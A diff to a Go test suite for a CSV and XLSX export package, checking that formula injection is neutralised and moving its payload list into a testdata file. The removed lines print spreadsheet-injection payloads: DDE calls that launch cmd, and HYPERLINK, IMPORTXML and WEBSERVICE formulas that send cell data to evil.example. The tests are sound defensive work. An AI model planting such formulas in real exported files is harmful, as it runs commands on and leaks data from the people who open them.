@@ -3,7 +3,9 @@ package exchange_test
 import (
 	"bytes"
 	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"os"
 	"slices"
 	"strings"
 	"testing"
@@ -19,17 +21,18 @@ import (
 
 // payloads are 200 texts a spreadsheet would run or split the row at: what
 // OWASP lists, begun with each sign that fires.
-func payloads() []string {
-	begun := []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－"}
-	bodies := []string{
-		"cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"ici")`, "1+1", "SUM(1+1)*cmd|' /C notepad'!A0",
-		`IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, "WEBSERVICE(\"http://evil.example\")", "=1", "@SUM(1,2)", "-3+2",
-		"+33 6 12 34 56 78", `"quoted"; "next"`, "'single'", ";=1+1", ",=1+1", "line\nbreak", "\"\n=1+1", "é ï œ", "", " =1",
-		`DDE("cmd";"/C calc";"x")`,
+func payloads(t *testing.T) (all []string) {
+	t.Helper()
+	raw, err := os.ReadFile("testdata/formulas.json")
+	if err != nil {
+		t.Fatal(err)
 	}
-	var all []string
-	for _, sign := range begun {
-		for _, body := range bodies {
+	var made struct{ Signs, Bodies []string }
+	if err := json.Unmarshal(raw, &made); err != nil {
+		t.Fatal(err)
+	}
+	for _, sign := range made.Signs {
+		for _, body := range made.Bodies {
 			all = append(all, sign+body)
 		}
 	}
@@ -38,15 +41,16 @@ func payloads() []string {
 
 // everyField is a table with a payload in each of its text fields, heads among
 // them, and figures below zero beside.
-func everyField() exchange.Table {
-	t := exchange.Table{Title: "=1+1", Columns: []exchange.Column{
+func everyField(t *testing.T) exchange.Table {
+	t.Helper()
+	table := exchange.Table{Title: "=1+1", Columns: []exchange.Column{
 		{"=Nom", exchange.Text}, {"+Ville", exchange.Text}, {"@Note", exchange.Text}, {"Né le", exchange.Day}, {"Solde", exchange.Cents},
 	}}
-	all := payloads()
+	all := payloads(t)
 	for i, payload := range all {
-		t.Rows = append(t.Rows, []any{payload, all[(i+1)%len(all)], all[(i+2)%len(all)], calendar.Day("2026-10-07"), money.Cents(-7000)})
+		table.Rows = append(table.Rows, []any{payload, all[(i+1)%len(all)], all[(i+2)%len(all)], calendar.Day("2026-10-07"), money.Cents(-7000)})
 	}
-	return t
+	return table
 }
 
 // live lists the text cells of a written table that a spreadsheet would run.
@@ -69,7 +73,7 @@ func live(t *testing.T, raw []byte, separator rune) (cells []string) {
 }
 
 func TestNoCellOfATextTableIsRunByASpreadsheet(t *testing.T) {
-	table := everyField()
+	table := everyField(t)
 	if len(table.Rows) != 200 {
 		t.Fatalf("%d payloads", len(table.Rows))
 	}
@@ -95,7 +99,7 @@ func TestAnAmountBelowZeroStaysAFigure(t *testing.T) {
 }
 
 func TestWhatWasDefusedIsImportedAsItWas(t *testing.T) {
-	table := everyField()
+	table := everyField(t)
 	for name, raw := range map[string][]byte{"csv": table.CSV(locale.French), "xlsx": written(t, table)} {
 		s := read(t, raw)
 		if len(s.Rows) != 201 {
@@ -131,7 +135,7 @@ func written(t *testing.T, table exchange.Table) []byte {
 }
 
 func TestAWorkbookHoldsDaysAndFiguresAsSuchAndNoFormula(t *testing.T) {
-	table := everyField()
+	table := everyField(t)
 	table.Rows = append(table.Rows, []any{"Lambert", "", "", calendar.Day(""), nil}, []any{"Ancien", "", "", calendar.Day("1899-12-31"), money.Cents(5)})
 	file, err := excelize.OpenReader(bytes.NewReader(written(t, table)))
 	if err != nil {
